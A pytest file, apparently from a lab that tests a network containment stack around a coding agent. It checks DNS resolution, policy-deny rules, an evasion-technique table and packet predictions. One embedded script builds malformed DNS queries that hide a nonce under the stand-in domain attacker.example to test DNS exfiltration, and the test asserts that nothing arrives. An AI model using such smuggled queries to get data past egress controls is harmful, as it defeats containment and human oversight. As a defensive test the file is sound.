"""What every change is held against by packets: one enforced stack's six tests, a technique of each kind, and the rows of its own table.

The whole tables, in every class and mode, are asked for by name (`pytest -m packets`).
"""

from __future__ import annotations

import subprocess
import sys
from collections.abc import Iterator

import pytest

from containment.loaders.scenarios import read_scenarios
from containment.loaders.stack_file import read_stack
from containment.names import PolicyMode
from containment_lab.internet.receipts import make_nonce
from containment_lab.linux.tools import list_missing
from containment_lab.network.control import LabNetwork
from containment_lab.validation.comparison import compare_flows
from containment_lab.validation.evasion import run_table
from containment_lab.validation.evasion_table import ClassTable, load_table
from containment_lab.validation.six_tests import NAMES, run_script
from tests.deployment.lab import REPOSITORY, Lab
from tests.deployment.world import arrived, world_of

pytestmark = [pytest.mark.slow, pytest.mark.namespaces, pytest.mark.skipif(bool(list_missing()), reason="; ".join(list_missing()))]
STACK = "coding-enforce"
SCENARIOS = REPOSITORY / "tests" / "scenarios"
IDLE_RUNS = 20
LOOKUP = """
import socket, sys
query = b"\\x12\\x34\\x01\\0\\0\\x01\\0\\0\\0\\0\\0\\0\\x06github\\x03com\\0\\0\\x01\\0\\x01"
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as handle:
    handle.settimeout(5)
    handle.sendto(query, (sys.argv[1], 53))
    handle.recv(512)
"""


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> Iterator[LabNetwork]:
    with Lab(tmp_path_factory.mktemp("contained")) as lab:
        lab.platform()
        lab.must("up", STACK, "--skip-preview", pack=None)
        yield world_of(lab, STACK)


@pytest.mark.long
def test_an_idle_command_has_no_decisions_while_the_gateway_resolves_names(world: LabNetwork) -> None:
    """What the gateway resolves for itself is not listed as the agent's; first in the file, before other tests' late decisions."""
    lookup = [*world.build_entering_command("gateway"), sys.executable, "-c", LOOKUP, world.send_command("status")["resolver"]]
    for _ in range(IDLE_RUNS):
        before = world.send_command("decisions")["count"]
        subprocess.run(world.build_privileged_command(["true"]), check=True, capture_output=True, cwd="/")
        subprocess.run(lookup, check=True, cwd="/")
        assert world.await_decisions(before, quiet=0.2) == []
        assert [each["server_name"] for each in world.await_decisions(before, quiet=0.2, every_source=True)] == ["github.com"]


def test_the_deployed_script_passes_each_test_by_the_right_rule(world: LabNetwork) -> None:
    judged = run_script(world, PolicyMode.ENFORCE)
    assert {each.probe.test for each in judged} == set(NAMES)
    untested = {"ssm-session", "update"}
    assert {each.probe.id: each.says for each in judged if each.result.value != "PASS" and each.probe.id not in untested} == {}
    assert {each.says for each in judged if each.probe.test == 4} == {"DENIED by vca-openclaw-shadow-model-deny"}


def test_a_technique_of_each_kind_ends_as_the_table_expects(world: LabNetwork) -> None:
    table = load_table(SCENARIOS / "evasion.yaml").select_for_stack(read_stack(STACK, {}, REPOSITORY))
    kinds = {each.command[0]: each for each in reversed(table.scenarios) if each.command}
    lines = run_table(world, ClassTable(tuple(kinds.values()), table.open), PolicyMode.ENFORCE)
    assert [f"{line.state} {line.scenario.id}: {line.says}" for line in lines if line.state not in ("AGREES", "OPEN")] == []
    assert len(lines) >= 12


def test_packets_do_what_the_model_predicts(world: LabNetwork) -> None:
    rows = [row for row in read_scenarios(SCENARIOS / "coding.yaml").scenarios if not row.needs]
    rows = list({row.flow and (row.flow.address, row.flow.place, row.flow.server_name): row for row in rows}.values())  # all at once
    compared = compare_flows(world, read_stack(STACK, {}, REPOSITORY), rows)
    assert [f"{each.scenario.id}: {each.why}" for each in compared if each.state == "DISAGREES"] == []
    assert sum(each.state == "AGREES" for each in compared) >= 20


MALFORMED = """
import socket, sys
resolver, nonce = sys.argv[1], sys.argv[2].encode()
def name(*labels): return b"".join(bytes([len(each)]) + each for each in labels) + b"\\0"
good = name(b"github", b"com") + b"\\0\\1\\0\\1"
hidden = name(nonce, b"attacker", b"example") + b"\\0\\1\\0\\1"
odd = [(b"\\1\\0", 2, good + hidden), (b"\\1\\0", 1, good + nonce), (b"\\x28\\0", 1, good + hidden)]
for flags, count, body in [*odd, (b"\\1\\0", 1, good)]:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as handle:
        handle.settimeout(3)
        handle.sendto(b"\\x12\\x34" + flags + b"\\0" + bytes([count]) + bytes(6) + body, (resolver, 53))
        try:
            print(handle.recv(4096)[3] & 15)
        except TimeoutError:
            print("silence")
"""
"""Queries for a permitted name with a second question, with data behind, as an update; and at last the plain one. Prints answer codes."""


def test_what_a_query_carries_besides_its_question_goes_nowhere(world: LabNetwork) -> None:
    nonce = make_nonce()
    done = subprocess.run(
        world.build_privileged_command([sys.executable, "-c", MALFORMED, world.send_command("status")["resolver"], nonce]),
        capture_output=True,
        text=True,
        check=True,
    )
    assert arrived(world, nonce) == set()
    *refused, plain = done.stdout.split("\n")[:-1]
    assert plain == "0"
    assert len(refused) == 3
    assert "0" not in refused
